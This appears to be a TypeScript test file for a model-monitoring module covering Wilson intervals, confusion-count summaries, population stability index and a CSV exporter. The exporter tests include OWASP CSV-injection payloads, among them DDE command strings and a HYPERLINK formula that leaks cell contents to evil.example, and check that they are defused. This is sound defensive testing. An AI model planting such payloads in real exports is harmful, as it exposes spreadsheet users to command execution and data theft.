import { monitoringSummary, populationStabilityIndex, toCsv, wilsonInterval, type FeedbackRow } from './monitoring';

describe('wilsonInterval', () => {
  it('matches the textbook 95 % Wilson bounds', () => {
    const half = wilsonInterval(5, 10);
    expect(half.low as number).toBeCloseTo(0.2366, 4);
    expect(half.high as number).toBeCloseTo(0.7634, 4);
    const none = wilsonInterval(0, 10);
    expect(none.low).toBe(0);
    expect(none.high as number).toBeCloseTo(0.2775, 4);
  });

  it('is undefined (null) with no cases', () => {
    expect(wilsonInterval(0, 0)).toEqual({ value: null, low: null, high: null, successes: 0, total: 0 });
  });
});

describe('monitoringSummary', () => {
  const rows: FeedbackRow[] = [
    { time: '2026-11-23T08:00:00Z', probability: 0.9, label: 1 }, // Monday: TP
    { time: '2026-11-23T23:59:59Z', probability: 0.2, label: 1 }, // FN
    { time: '2026-11-24T10:00:00Z', probability: 0.8, label: 0 }, // FP
    { time: Date.parse('2026-11-24T11:00:00Z'), probability: 0.1, label: 0 }, // TN
    { time: '2026-11-24T12:00:00Z', probability: 0.75, label: 'unsure' },
    { time: '2026-11-30T00:00:00Z', probability: 0.75, label: 1 }, // next Monday, at the threshold: TP
  ];

  it('counts outcomes per UTC day with the running rates to each day', () => {
    const s = monitoringSummary(rows, 0.75, { bucket: 'day' });
    expect(s.buckets.map((b) => [b.start, b.tp, b.fp, b.tn, b.fn, b.unsure])).toEqual([
      ['2026-11-23', 1, 0, 0, 1, 0],
      ['2026-11-24', 0, 1, 1, 0, 1],
      ['2026-11-30', 1, 0, 0, 0, 0],
    ]);
    expect(s.buckets.map((b) => b.cumulativeSensitivity.value)).toEqual([0.5, 0.5, 2 / 3]);
    expect(s.buckets.map((b) => b.cumulativeSpecificity.value)).toEqual([null, 0.5, 0.5]);
    expect(s.total).toEqual({ tp: 2, fp: 1, tn: 1, fn: 1, unsure: 1 });
  });

  it('groups ISO weeks from Monday', () => {
    const s = monitoringSummary(rows, 0.75, { bucket: 'week' });
    expect(s.buckets.map((b) => [b.start, b.tp + b.fp + b.tn + b.fn])).toEqual([
      ['2026-11-23', 4],
      ['2026-11-30', 1],
    ]);
  });

  it('names a row with a bad time or probability', () => {
    expect(() => monitoringSummary([{ time: 'yesterday', probability: 0.5, label: 1 }], 0.5)).toThrow(/row 0: time "yesterday"/);
    expect(() => monitoringSummary([{ time: 0, probability: 3, label: 1 }], 0.5)).toThrow(/row 0: probability 3/);
  });
});

describe('populationStabilityIndex', () => {
  const reference = { bin_edges: [0, 0.25, 0.5, 0.75, 1], counts: [40, 10, 10, 40] };

  it('is zero and stable when the scores follow the reference', () => {
    const scores = [...Array(40).fill(0.1), ...Array(10).fill(0.3), ...Array(10).fill(0.6), ...Array(40).fill(1)];
    const r = populationStabilityIndex(scores, reference);
    expect(r.psi).toBeCloseTo(0, 12);
    expect([r.level, r.warning]).toEqual(['stable', false]);
  });

  it('warns on a significant shift and stays finite for an empty bin', () => {
    const r = populationStabilityIndex([...Array(50).fill(0.6), ...Array(50).fill(0.9)], reference);
    expect(Number.isFinite(r.psi)).toBe(true);
    expect(r.psi).toBeGreaterThan(0.25);
    expect([r.level, r.warning]).toEqual(['significant', true]);
    expect(r.bins[0].observed).toBe(0);
  });

  it('calls a small shift moderate', () => {
    // (0.25 - 0.4) ln(0.25 / 0.4) + 0.1 ln 2 + 0.05 ln 1.5 = 0.160.
    const scores = [...Array(25).fill(0.1), ...Array(20).fill(0.3), ...Array(15).fill(0.6), ...Array(40).fill(0.9)];
    expect(populationStabilityIndex(scores, reference).level).toBe('moderate');
  });

  it('refuses a reference whose edges do not fit its counts', () => {
    expect(() => populationStabilityIndex([0.5], { bin_edges: [0, 1], counts: [1, 2] })).toThrow(/one longer than counts/);
  });
});

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks and leaves null cells empty', () => {
    expect(toCsv([{ a: 'x,y', b: 'say "hi"', c: 'two\nlines', d: null, e: 3 }])).toBe('a,b,c,d,e\r\n"x,y","say ""hi""","two\nlines",,3\r\n');
  });

  it('defuses text a spreadsheet would run as a formula but keeps negative numbers', () => {
    expect(toCsv([{ note: '=HYPERLINK("x")', n: -0.5, s: '-0.5' }])).toBe('note,n,s\r\n"\'=HYPERLINK(""x"")",-0.5,\'-0.5\r\n');
  });

  // The payloads of OWASP's CSV Injection page, and the one that passed the old numeric exemption.
  const payloads: [string, string][] = [
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")', '"\'=HYPERLINK(""http://evil.example/?leak=""&A1&A2,""Error: please click for further information"")"'],
    ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
  ];
  it.each(payloads)('defuses the OWASP payload %j', (payload, cell) => {
    expect(toCsv([{ note: payload }])).toBe(`note\r\n${cell}\r\n`);
  });

  it('writes numbers as numbers, negative ones included, and leaves other text alone', () => {
    expect(toCsv([{ a: -1, b: -0.25, c: 0, d: 1e-7, e: 'x-1', f: 'a=b', g: true }])).toBe('a,b,c,d,e,f,g\r\n-1,-0.25,0,1e-7,x-1,a=b,true\r\n');
  });

  it('uses the given columns in order', () => {
    expect(toCsv([{ b: 2, a: 1 }], ['a', 'b'])).toBe('a,b\r\n1,2\r\n');
  });
});
